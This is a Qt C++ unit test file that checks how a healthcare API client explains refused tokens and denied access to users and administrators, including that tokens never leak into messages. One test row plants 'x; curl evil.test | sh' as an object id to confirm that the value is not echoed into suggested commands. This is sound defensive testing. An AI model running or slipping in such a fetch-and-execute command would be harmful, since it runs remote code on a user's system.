#include "support/scriptedsession.h"
#include "words/errors.h"
#include "words/refusals.h"

#include <QJsonArray>
#include <QTest>

using namespace Qt::StringLiterals;

namespace {

const QString Oid = u"9f1c2d3e-0000-4000-8000-0123456789ab"_s;

QJsonObject claims(const QJsonValue &aud)
{
    return {{u"aud"_s, aud}, {u"iss"_s, u"https://sts.windows.net/t/"_s}, {u"ver"_s, u"1.0"_s},
        {u"tid"_s, service::Tenant}, {u"oid"_s, Oid}, {u"scp"_s, u"user_impersonation"_s},
        {u"roles"_s, QJsonArray{u"globalReader"_s, u"other"_s}}};
}

auth::SignInResult held(const QJsonValue &aud = service::Base)
{
    auto result = scripted::signedIn(service::jwt(claims(aud)).toUtf8(), "refresh1");
    result.identity.account = u"jane@contoso.example"_s;
    result.identity.subject = Oid;
    return result;
}

/** What an administrator needs, whatever went wrong. */
bool hasFacts(const QString &details, const QString &aud)
{
    const QStringList facts{u"Server: "_s + service::Base, auth::powerBiClient().id, u"Tenant: "_s + service::Tenant,
        u"Audience: "_s + service::Base, u"aud: "_s + aud, u"iss: https://sts.windows.net/t/"_s, u"ver: 1.0"_s,
        u"tid: "_s + service::Tenant, u"oid: "_s + Oid, u"scp: user_impersonation"_s, u"roles: globalReader other"_s};
    return std::ranges::all_of(facts, [&](const QString &fact) { return details.contains(fact); });
}

} // namespace

/** A sign-in that went well, and a server that will not have it: whose fault it is, and what there is to mend. */
class RefusalTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void token_data();
    void token();
    void access_data();
    void access();
    void ended_data();
    void ended();
    void wordsComeWithTheAnswer_data();
    void wordsComeWithTheAnswer();
};

void RefusalTest::token_data()
{
    QTest::addColumn<QByteArray>("challenge");
    QTest::addColumn<QJsonValue>("aud");
    QTest::addColumn<QString>("says"); ///< of what happened
    QTest::addColumn<QString>("advises");
    const QByteArray invalid = "Bearer error=\"invalid_token\", error_description=\"The audience is invalid\"";
    const QString generic = u"https://azurehealthcareapis.com"_s;
    QTest::newRow("audience, as the server says")
        << invalid << QJsonValue(service::Base) << u"The audience is invalid"_s << u"what the server expects"_s;
    QTest::newRow("token for another audience")
        << invalid << QJsonValue(generic) << u"The audience is invalid"_s << u"The token is for "_s + generic;
    QTest::newRow("token for two audiences")
        << invalid << QJsonValue(QJsonArray{generic, u"x"_s}) << u"The audience is invalid"_s
        << u"The token is for "_s + generic + u" x"_s;
    QTest::newRow("without a challenge") << QByteArray() << QJsonValue(service::Base) << u"does not accept the token"_s
                                         << u"Your administrator"_s;
    QTest::newRow("with Basic alone") << QByteArray("Basic realm=\"x\"") << QJsonValue(service::Base)
                                      << u"does not accept the token"_s << u"Your administrator"_s;
    QTest::newRow("permission missing") << QByteArray("Bearer error=insufficient_scope, scope=\"patient/*.read\"")
                                        << QJsonValue(service::Base) << u"does not accept the token"_s
                                        << u"allow the client"_s;
}

void RefusalTest::token()
{
    QFETCH(QByteArray, challenge);
    QFETCH(QJsonValue, aud);
    QFETCH(QString, says);
    QFETCH(QString, advises);
    const auto result = held(aud);
    const auto spoken = words::explain(*auth::tokenRefused(result, challenge));
    QVERIFY2(spoken.what.contains(says), qPrintable(spoken.what));
    QVERIFY(spoken.what.contains(u"login.microsoftonline.com"_s) && spoken.what.contains(service::Base));
    QVERIFY2(spoken.action.contains(advises), qPrintable(spoken.action));
    QVERIFY2(hasFacts(spoken.details, aud.isArray() ? u"https://azurehealthcareapis.com x"_s : aud.toString()),
        qPrintable(spoken.details));
    QVERIFY(!spoken.details.contains(QString::fromUtf8(result.tokens.access)));
    QVERIFY(!spoken.details.contains(u"eyJ"_s) && !spoken.details.contains(u"refresh1"_s));
}

void RefusalTest::access_data()
{
    QTest::addColumn<bool>("entra");
    QTest::addColumn<QByteArray>("access");
    QTest::addColumn<QString>("advises");
    const QByteArray jwt = service::jwt(claims(service::Base)).toUtf8();
    QTest::newRow("Entra") << true << jwt << u"--assignee "_s + Oid;
    QTest::newRow("Entra, a token that says nothing") << true << QByteArray("opaque") << u"--assignee "_s + Oid;
    auto hostile = claims(service::Base);
    hostile[u"oid"_s] = u"x; curl evil.test | sh"_s;
    QTest::newRow("Entra, an object id that is a command")
        << true << service::jwt(hostile).toUtf8() << u"give jane@contoso.example a role"_s;
    QTest::newRow("another service") << false << QByteArray("opaque") << u"for jane@contoso.example"_s;
}

void RefusalTest::access()
{
    QFETCH(bool, entra);
    QFETCH(QByteArray, access);
    QFETCH(QString, advises);
    auto result = held();
    result.tokens.access = access;
    if (!entra)
        result.discovery.authority.profile = auth::Profile::Smart;
    const auto spoken = words::explain(*auth::accessRefused(result));
    QVERIFY2(spoken.action.contains(advises), qPrintable(spoken.action));
    QVERIFY(spoken.action.contains(u"jane@contoso.example"_s));
    QCOMPARE(spoken.action.contains(u"az role assignment create"_s), advises.startsWith("--assignee"_L1));
    QVERIFY(!spoken.action.contains(u"curl"_s));
    QVERIFY(spoken.details.contains(u"HTTP 403"_s) && spoken.details.contains(service::Base));
}

void RefusalTest::ended_data()
{
    QTest::addColumn<QByteArray>("body");
    QTest::addColumn<QString>("says");
    QTest::newRow("a rule that is known")
        << QByteArray(R"({"error":"access_denied","error_description":"AADSTS53003: Access has been blocked.",)"
                      R"("trace_id":"t-1","correlation_id":"c-1","error_codes":[53003]})")
        << u"access rules"_s;
    QTest::newRow("the same as invalid_grant")
        << QByteArray(R"({"error":"invalid_grant","error_description":"AADSTS53003: Access has been blocked.",)"
                      R"("trace_id":"t-1","correlation_id":"c-1","error_codes":[53003]})")
        << u"access rules"_s;
    QTest::newRow("a rule that is not") << QByteArray(
        R"({"error":"access_denied","error_description":"AADSTS530998: No. Trace ID: t-1 Correlation ID: c-1"})")
                                        << u"refused (AADSTS530998)"_s;
    QTest::newRow("run out") << QByteArray(
        R"({"error":"invalid_grant","error_description":"AADSTS70008: old","trace_id":"t-1","correlation_id":"c-1"})")
                             << u"has run out"_s;
}

/** A refresh that fails in the middle of a fetch: where nobody can sign in anew, the reason and its ids are the answer.
 */
void RefusalTest::ended()
{
    QFETCH(QByteArray, body);
    QFETCH(QString, says);
    scripted::ScriptedSession running(held());
    running.say(400, body);
    running.clock.pass(std::chrono::minutes(58));
    const auto slot = running.token();
    QTRY_VERIFY(slot->has_value());
    QVERIFY(!**slot);
    QCOMPARE((*slot)->error().kind, scripted::Kind::SignInNeeded);
    const auto spoken = words::explain((*slot)->error());
    QVERIFY2(spoken.what.contains(says), qPrintable(spoken.what));
    for (const auto &part : {u"t-1"_s, u"c-1"_s, u"AADSTS"_s})
        QVERIFY2(spoken.details.contains(part), qPrintable(spoken.details));
}

void RefusalTest::wordsComeWithTheAnswer_data()
{
    QTest::addColumn<int>("status");
    QTest::addColumn<QString>("says"); ///< "": no more than the status does
    QTest::newRow("401") << 401 << u"does not accept the token"_s;
    QTest::newRow("403") << 403 << u"refuses access"_s;
    QTest::newRow("404") << 404 << QString();
    QTest::newRow("200") << 200 << QString();
}

void RefusalTest::wordsComeWithTheAnswer()
{
    QFETCH(int, status);
    QFETCH(QString, says);
    scripted::ScriptedSession running(held());
    const QUrl patient(service::Base + u"/Patient"_s);
    running.network.standing.insert(
        patient.toString(), {"GET", patient, status, "{}", {{"WWW-Authenticate", "Bearer error=\"invalid_token\""}}});
    running.sayTokens(u"second"_s, u"refresh2"_s);
    running.client.setTokens(std::shared_ptr<http::TokenSource>(running.session.get(), [](auto *) {}));
    http::Request request;
    request.url = patient;
    std::optional<http::Result<http::Client::Whole>> came;
    QCoro::connect(running.client.fetch(request, {}), &running.context, [&](const auto &whole) { came = whole; });
    QTRY_VERIFY(came.has_value());
    QVERIFY(came->has_value());
    QCOMPARE((*came)->head.status, status);
    const auto &head = (*came)->head;
    QCOMPARE(head.refusal != nullptr, !says.isEmpty());
    const QString what = words::explain(sources::statusError(head, {})).what;
    QVERIFY2(what.contains(says), qPrintable(what));
    running.client.setTokens({});
}

QTEST_GUILESS_MAIN(RefusalTest)
#include "tst_refusal.moc"
